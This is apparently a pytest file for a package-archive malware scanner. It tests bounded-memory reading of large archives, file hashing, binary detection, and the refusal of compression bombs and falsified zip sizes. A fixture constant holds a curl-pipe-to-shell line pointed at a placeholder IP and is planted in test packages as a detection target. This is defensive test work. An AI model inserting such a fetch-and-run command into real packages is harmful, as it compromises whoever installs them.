"""Big legitimate packages are scanned in bounded memory; only real bombs are refused.

Every archive here is built in the test, in memory.
"""

import hashlib
import io
import random
import tarfile
import tracemalloc
import zipfile

import pytest

from scans.engine import ArchiveLimitExceeded, ArchiveLimits, scan_archive
from scans.engine.archive import HEAD_BYTES, SNIFF_BYTES, read_archive

from .conftest import make_tgz, make_zip

MiB = 1024 * 1024
PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x.sh | sh')\n"


def stored_zip(files: dict[str, bytes]) -> bytes:
    """A zip without compression: big members cost no CPU to build and are no bomb (ratio 1:1)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def test_more_members_than_the_old_cap_are_scanned_up_to_the_last(rules):
    # 21,000 files: configuration-management tools and cloud SDKs ship this many.
    files = {f"pkg/mod{i}/m.py": "VALUE = %d\n" % i for i in range(21_000)}
    files["setup.py"] = PAYLOAD  # the last member still gets read
    data = make_zip(files)
    result = scan_archive(data, rules, filename="big-1.0.zip", ecosystem="pypi")
    assert result.file_stats["total_files"] == 21_001
    assert result.verdict in ("high", "critical")
    assert any(f.file == "setup.py" for f in result.findings)


def test_more_than_200_mib_unpacked_is_scanned_in_bounded_memory(rules):
    # A 205 MiB data file next to the code (model weights, a bundled database): hashed, not kept.
    weights = bytes(range(256)) * (205 * MiB // 256)
    data = stored_zip({"pkg/__init__.py": b"from .core import run\n", "pkg/core.py": PAYLOAD.encode(),
                       "pkg/weights.bin": weights})
    tracemalloc.start()
    try:
        entries = read_archive(data, "pkg.whl", ArchiveLimits())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 * MiB
    by_path = {e.path: e for e in entries}
    blob = by_path["pkg/weights.bin"]
    assert blob.size == len(weights)
    assert len(blob.data) == SNIFF_BYTES
    assert blob.sha256 == hashlib.sha256(weights).hexdigest()

    result = scan_archive(data, rules, filename="pkg-1.0-py3-none-any.whl", ecosystem="pypi")
    assert result.file_stats["total_size_bytes"] > 205 * MiB
    assert result.file_hashes["pkg/weights.bin"] == "sha256:" + hashlib.sha256(weights).hexdigest()
    assert any(f.file == "pkg/core.py" for f in result.findings)


def test_a_long_text_member_keeps_its_head_and_is_hashed_whole(rules):
    rnd = random.Random(12)
    text = ("# generated table\n" + "".join(f"ROW_{i} = '{rnd.getrandbits(64):x}'\n" for i in range(110_000))).encode()
    data = make_tgz({"gen/table.py": text, "gen/__init__.py": PAYLOAD})
    entries = {e.path: e for e in read_archive(data, "gen.tgz", ArchiveLimits())}
    table = entries["package/gen/table.py"]
    assert table.size == len(text) > HEAD_BYTES
    assert table.data == text[:HEAD_BYTES]
    assert table.sha256 == hashlib.sha256(text).hexdigest()
    result = scan_archive(data, rules, filename="gen.tgz")
    assert result.file_hashes["package/gen/table.py"] == "sha256:" + hashlib.sha256(text).hexdigest()


def test_a_binary_member_keeps_only_its_sniff_and_is_still_recognised(rules):
    elf = b"\x7fELF\x02\x01\x01\x00" + random.Random(3).randbytes(MiB)
    data = make_tgz({"bin/helper": elf, "index.js": "module.exports = 1\n", "package.json": '{"name": "x"}'})
    entries = {e.path: e for e in read_archive(data, "x.tgz", ArchiveLimits())}
    assert len(entries["package/bin/helper"].data) == SNIFF_BYTES
    assert entries["package/bin/helper"].size == len(elf)
    result = scan_archive(data, rules, filename="x.tgz", ecosystem="npm")
    assert "eng_executable" in result.rule_ids()


def test_text_after_the_sniff_window_is_kept_as_text():
    # NUL bytes after the first 8 KiB do not turn a script into "binary".
    text = b"x = 1\n" * 2000 + b"\x00" + b"y = 2\n" * 10
    entries = read_archive(make_zip({"a.py": text}), "a.zip", ArchiveLimits())
    assert entries[0].data == text


def test_too_much_text_to_scan_is_refused():
    files = {f"m{i}.py": ("v = %d\n" % i) * 2000 for i in range(40)}
    with pytest.raises(ArchiveLimitExceeded, match="text to scan"):
        read_archive(make_tgz(files), "p.tgz", ArchiveLimits(max_kept_bytes=200_000))


def test_declared_size_lies_are_caught_while_streaming():
    # A zip whose central directory under-declares a member: the stream is cut at the member cap.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("big.txt", b"a" * 50_000)
    with pytest.raises(ArchiveLimitExceeded):
        read_archive(buf.getvalue(), "p.zip", ArchiveLimits(max_member_size=10_000))


def test_a_compression_bomb_is_still_refused_with_the_new_limits(rules):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        info = tarfile.TarInfo("package/zeros.txt")
        info.size = 64 * MiB
        tf.addfile(info, io.BytesIO(b"\0" * info.size))
    with pytest.raises(ArchiveLimitExceeded, match="100:1"):
        scan_archive(buf.getvalue(), rules, filename="bomb.tgz")


def test_overlapping_zip_members_are_refused_by_their_declared_total():
    # Many entries claiming one big stream: the declared total dwarfs the archive.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for i in range(20):
            zf.writestr(f"f{i}.bin", b"")
    data = bytearray(buf.getvalue())
    # Rewrite each central-directory record's sizes to claim 2 MiB apiece.
    cd = data.find(b"PK\x01\x02")
    while cd >= 0:
        data[cd + 20:cd + 28] = (0).to_bytes(4, "little") + (2 * MiB).to_bytes(4, "little")
        cd = data.find(b"PK\x01\x02", cd + 4)
    with pytest.raises(ArchiveLimitExceeded):
        read_archive(bytes(data), "p.zip", ArchiveLimits())
